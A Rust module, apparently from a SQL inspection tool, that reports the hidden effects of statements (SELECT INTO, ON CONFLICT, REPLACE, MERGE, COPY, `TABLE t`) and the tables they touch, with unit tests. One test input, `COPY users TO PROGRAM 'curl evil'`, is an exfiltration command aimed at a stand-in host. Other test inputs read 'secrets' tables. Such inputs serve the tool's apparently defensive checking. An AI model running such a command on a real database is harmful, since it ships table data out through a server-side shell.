//! What a statement does beyond the word it begins with: `SELECT ... INTO t` creates a table,
//! `INSERT ... ON CONFLICT DO UPDATE` and `ON DUPLICATE KEY UPDATE` update rows, `REPLACE` deletes
//! the rows it collides with, `MERGE` inserts, updates and deletes by its clauses; and the tables
//! such statements write (or `COPY` reads) that the relation visitor does not name.

use std::ops::ControlFlow;

use sqlparser::ast::{
    CopySource, Expr, MergeAction, ObjectName, OnConflictAction, OnInsert, Query, SetExpr,
    Statement, Visit, Visitor,
};

/// The statement kinds `statement` also performs, besides its own.
pub fn effects(statement: &Statement) -> Vec<&'static str> {
    let mut effects = Vec::new();
    match statement {
        Statement::Query(query) if !into_targets(&query.body).is_empty() => effects.push("create"),
        Statement::Insert(insert) => {
            let updates = match &insert.on {
                Some(OnInsert::DuplicateKeyUpdate(_)) => true,
                Some(OnInsert::OnConflict(conflict)) => {
                    matches!(conflict.action, OnConflictAction::DoUpdate(_))
                }
                _ => false,
            };
            if updates {
                effects.push("update");
            }
            if insert.replace_into {
                effects.push("delete");
            }
        }
        Statement::Merge(merge) => {
            for clause in &merge.clauses {
                match clause.action {
                    MergeAction::Insert(_) => effects.push("insert"),
                    MergeAction::Update(_) => effects.push("update"),
                    MergeAction::Delete { .. } => effects.push("delete"),
                    _ => {}
                }
            }
        }
        _ => {}
    }
    effects
}

/// Tables `statement` touches that are not relations it reads from: the table a `SELECT ... INTO`
/// creates, the table a `COPY` reads or fills.
pub fn written(statement: &Statement) -> Vec<String> {
    match statement {
        Statement::Query(query) => into_targets(&query.body),
        Statement::Copy {
            source: CopySource::Table { table_name, .. },
            ..
        } => vec![table_name_of(table_name)],
        _ => Vec::new(),
    }
}

/// The `INTO` targets of the selects in a query body (the first select of a `UNION` may have one).
fn into_targets(body: &SetExpr) -> Vec<String> {
    match body {
        SetExpr::Select(select) => select
            .into
            .iter()
            .flat_map(|into| into.targets.iter().map(target_name))
            .collect(),
        SetExpr::SetOperation { left, right, .. } => {
            let mut targets = into_targets(left);
            targets.extend(into_targets(right));
            targets
        }
        SetExpr::Query(query) => into_targets(&query.body),
        _ => Vec::new(),
    }
}

/// A table's name as the database resolves it: every part without its quotes, lower-case
/// (`public."Users"` and `` `users` `` are `public.users` and `users`).
pub fn table_name_of(name: &ObjectName) -> String {
    name.0
        .iter()
        .map(|part| match part.as_ident() {
            Some(ident) => ident.value.to_lowercase(),
            None => part.to_string().to_lowercase(),
        })
        .collect::<Vec<_>>()
        .join(".")
}

/// The name an `INTO` target names.
fn target_name(target: &Expr) -> String {
    match target {
        Expr::Identifier(ident) => ident.value.to_lowercase(),
        Expr::CompoundIdentifier(parts) => parts
            .iter()
            .map(|p| p.value.to_lowercase())
            .collect::<Vec<_>>()
            .join("."),
        other => other.to_string().to_lowercase(),
    }
}

/// The tables that `TABLE t` (short for `SELECT * FROM t`) reads anywhere in `statements`: in a
/// subquery, a CTE, an `INSERT ... TABLE t`, a set operation.
pub fn table_commands(statements: &[Statement]) -> Vec<String> {
    struct Tables(Vec<String>);
    impl Visitor for Tables {
        type Break = ();
        fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
            tables_in(&query.body, &mut self.0);
            ControlFlow::Continue(())
        }
    }
    let mut tables = Tables(Vec::new());
    for statement in statements {
        let _ = statement.visit(&mut tables);
    }
    tables.0
}

fn tables_in(body: &SetExpr, tables: &mut Vec<String>) {
    match body {
        SetExpr::Table(table) => {
            let parts = [&table.schema_name, &table.table_name];
            let name: Vec<String> = parts
                .into_iter()
                .flatten()
                .map(|ident| ident.value.to_lowercase())
                .collect();
            if !name.is_empty() {
                tables.push(name.join("."));
            }
        }
        SetExpr::SetOperation { left, right, .. } => {
            tables_in(left, tables);
            tables_in(right, tables);
        }
        _ => {}
    }
}

#[cfg(test)]
mod tests {
    use crate::inspect::sql::parse;

    #[test]
    fn what_statements_also_do_table() {
        // sql, every kind it performs, a table it touches
        let cases = [
            (
                "SELECT * INTO backup_users FROM users",
                &["select", "create"][..],
                "backup_users",
            ),
            (
                "INSERT INTO users VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 1",
                &["insert", "update"],
                "users",
            ),
            (
                "INSERT INTO users VALUES (1) ON DUPLICATE KEY UPDATE x = 1",
                &["insert", "update"],
                "users",
            ),
            (
                "REPLACE INTO users VALUES (1)",
                &["replace", "delete"],
                "users",
            ),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE \
                 WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
                &["merge", "delete", "insert"],
                "t",
            ),
            ("COPY users TO PROGRAM 'curl evil'", &["copy"], "users"),
            ("COPY users FROM STDIN", &["copy"], "users"),
        ];
        for (sql, kinds, table) in cases {
            let facts = parse(sql).unwrap_or_else(|| panic!("{sql} parses"));
            for kind in kinds {
                assert!(
                    facts.statements.contains(&kind.to_string()),
                    "{sql}: {kind} in {facts:?}"
                );
            }
            assert!(
                facts.tables.contains(&table.to_string()),
                "{sql}: {table} in {facts:?}"
            );
        }
        // Quotes do not make another table; `TABLE t` reads `t` wherever it stands.
        for (sql, table) in [
            ("SELECT * FROM \"secrets\"", "secrets"),
            ("SELECT * FROM `secrets`", "secrets"),
            ("SELECT * FROM public.\"Secrets\"", "public.secrets"),
            ("DROP TABLE \"secrets\"", "secrets"),
            ("SELECT * INTO \"stolen\" FROM t", "stolen"),
            ("SELECT * FROM (TABLE secrets) s", "secrets"),
            ("INSERT INTO t TABLE secrets", "secrets"),
            (
                "WITH s AS (TABLE public.secrets) SELECT * FROM s",
                "public.secrets",
            ),
            ("SELECT * FROM a UNION TABLE secrets", "secrets"),
        ] {
            let facts = parse(sql).unwrap_or_else(|| panic!("{sql} parses"));
            assert!(
                facts.tables.contains(&table.to_string()),
                "{sql}: {table} in {facts:?}"
            );
        }
        let ignored = parse("INSERT INTO users VALUES (1) ON CONFLICT DO NOTHING").unwrap();
        assert_eq!(ignored.statements, ["insert"]);
        assert_eq!(parse("SELECT * INTO t FROM u").unwrap().statement, "create");
    }
}
